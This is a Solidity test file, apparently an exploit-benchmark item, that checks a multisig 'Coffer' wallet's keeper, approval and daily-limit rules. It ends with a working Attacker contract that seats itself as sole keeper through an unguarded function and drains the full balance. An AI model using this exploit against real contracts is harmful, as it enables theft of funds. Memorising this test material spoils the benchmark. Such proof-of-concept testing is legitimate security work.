pragma solidity 0.5.17;

import "./CofferCode.sol";

// assay-canary-17a3e913-e82e-4c43-b583-df2ba4499cc3

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant UNA = address(0x11A);
    address constant VIC = address(0x11B);
    address constant WYN = address(0x11C);
    uint256 constant HELD = 153037 ether;

    CofferCode internal coffer;
    Attacker internal thief;

    function setUp() public {
        vm.warp(1500000000);
        address[] memory first = new address[](3);
        first[0] = UNA;
        first[1] = VIC;
        first[2] = WYN;
        vm.deal(address(this), HELD);
        Coffer built = new Coffer(address(new CofferCode()), first, 2, 10 ether);
        (bool ok, ) = address(built).call.value(HELD)("");
        require(ok, "funded");
        coffer = CofferCode(address(built));
        thief = new Attacker(coffer);
    }

    function test_Regular() public {
        require(coffer.keeperCount() == 3 && coffer.required() == 2 && coffer.isKeeper(VIC), "opened");
        address payable shop = address(0x5409);
        (bool ok, ) = address(coffer).call(abi.encodeWithSignature("spend(address,uint256,bytes)", shop, 1, ""));
        require(!ok, "stranger");
        vm.prank(UNA);
        require(coffer.spend(shop, 6 ether, "") == 0 && shop.balance == 6 ether, "alone");
        vm.prank(UNA);
        uint256 id = coffer.spend(shop, 6 ether, "");
        require(id == 1 && shop.balance == 6 ether, "waits");
        vm.prank(UNA);
        (ok, ) = address(coffer).call(abi.encodeWithSignature("approve(uint256)", id));
        require(!ok, "twice by one");
        vm.prank(WYN);
        coffer.approve(id);
        require(shop.balance == 12 ether, "approved");
        vm.warp(1500000000 + 1 days);
        vm.prank(VIC);
        require(coffer.spend(shop, 10 ether, "") == 0, "next day");

        // the keepers raise the limit, and one of them leaves
        vm.prank(VIC);
        id = coffer.spend(payable_(address(coffer)), 0, abi.encodeWithSignature("setDayLimit(uint256)", 50 ether));
        vm.prank(WYN);
        coffer.approve(id);
        require(coffer.dayLimit() == 50 ether, "limit");
        address[] memory next = new address[](2);
        next[0] = WYN;
        next[1] = VIC;
        vm.prank(UNA);
        uint256 open = coffer.spend(shop, 60 ether, "");
        vm.prank(VIC);
        id = coffer.spend(payable_(address(coffer)), 0, abi.encodeWithSignature("seatKeepers(address[],uint256)", next, 1));
        vm.prank(WYN);
        coffer.approve(id);
        vm.prank(WYN);
        (ok, ) = address(coffer).call(abi.encodeWithSignature("approve(uint256)", open));
        require(!ok, "void");
        require(!coffer.isKeeper(UNA) && coffer.required() == 1 && coffer.keeperCount() == 2, "replaced");

        (ok, ) = address(coffer).call(
            abi.encodeWithSignature("open(address[],uint256,uint256)", next, uint256(1), uint256(0))
        );
        require(!ok, "opened twice");
        (ok, ) = address(coffer).call(abi.encodeWithSignature("setDayLimit(uint256)", uint256(1)));
        require(!ok, "limit by a stranger");
    }

    function payable_(address account) private pure returns (address payable) {
        return address(uint160(account));
    }

    // What is refused, each from the state after setUp().

    function test_RefusesToOpenTwice() public {
        vm.prank(address(coffer));
        vm.expectRevert("opened before");
        coffer.open(two(UNA, VIC), 1, 0);
    }

    function test_RefusesSeatsThatDoNotFit() public {
        refusesSeats(two(UNA, VIC), 0, "required");
        refusesSeats(two(UNA, VIC), 3, "required");
        refusesSeats(two(UNA, address(0)), 1, "keeper");
        refusesSeats(two(UNA, UNA), 1, "keeper");
        CofferCode code = new CofferCode();
        vm.expectRevert("open");
        new Coffer(address(code), two(UNA, UNA), 1, 0);
    }

    function test_RefusesApprovalByStrangers() public {
        vm.prank(UNA);
        uint256 id = coffer.spend(address(0x5409), 20 ether, "");
        vm.prank(address(0x57));
        vm.expectRevert("keepers only");
        coffer.approve(id);
    }

    function test_RefusesOrdersToNobody() public {
        vm.prank(UNA);
        vm.expectRevert("no such order");
        coffer.spend(address(0), 20 ether, "");
    }

    function test_RefusesPaymentsThatFail() public {
        vm.prank(UNA);
        vm.expectRevert("payment");
        coffer.spend(payable_(address(this)), 1 ether, "");
    }

    /// What the coffer itself may do with its seats, by an order of two keepers, and may not.
    function refusesSeats(address[] memory next, uint256 need, bytes memory reason) private {
        vm.prank(address(coffer));
        vm.expectRevert(reason);
        coffer.seatKeepers(next, need);
    }

    function two(address one, address other) private pure returns (address[] memory list) {
        list = new address[](2);
        list[0] = one;
        list[1] = other;
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = address(thief).balance;
        exploit();
        require(address(thief).balance >= before + HELD, "nothing gained");
    }

    function target() public view returns (address) {
        return address(coffer);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Takes the only seat, then orders everything for itself.
contract Attacker {
    CofferCode internal coffer;

    constructor(CofferCode coffer_) public {
        coffer = coffer_;
    }

    function () external payable {}

    function run() external {
        address[] memory me = new address[](1);
        me[0] = address(this);
        coffer.seatKeepers(me, 1);
        coffer.spend(address(this), address(coffer).balance, "");
    }
}
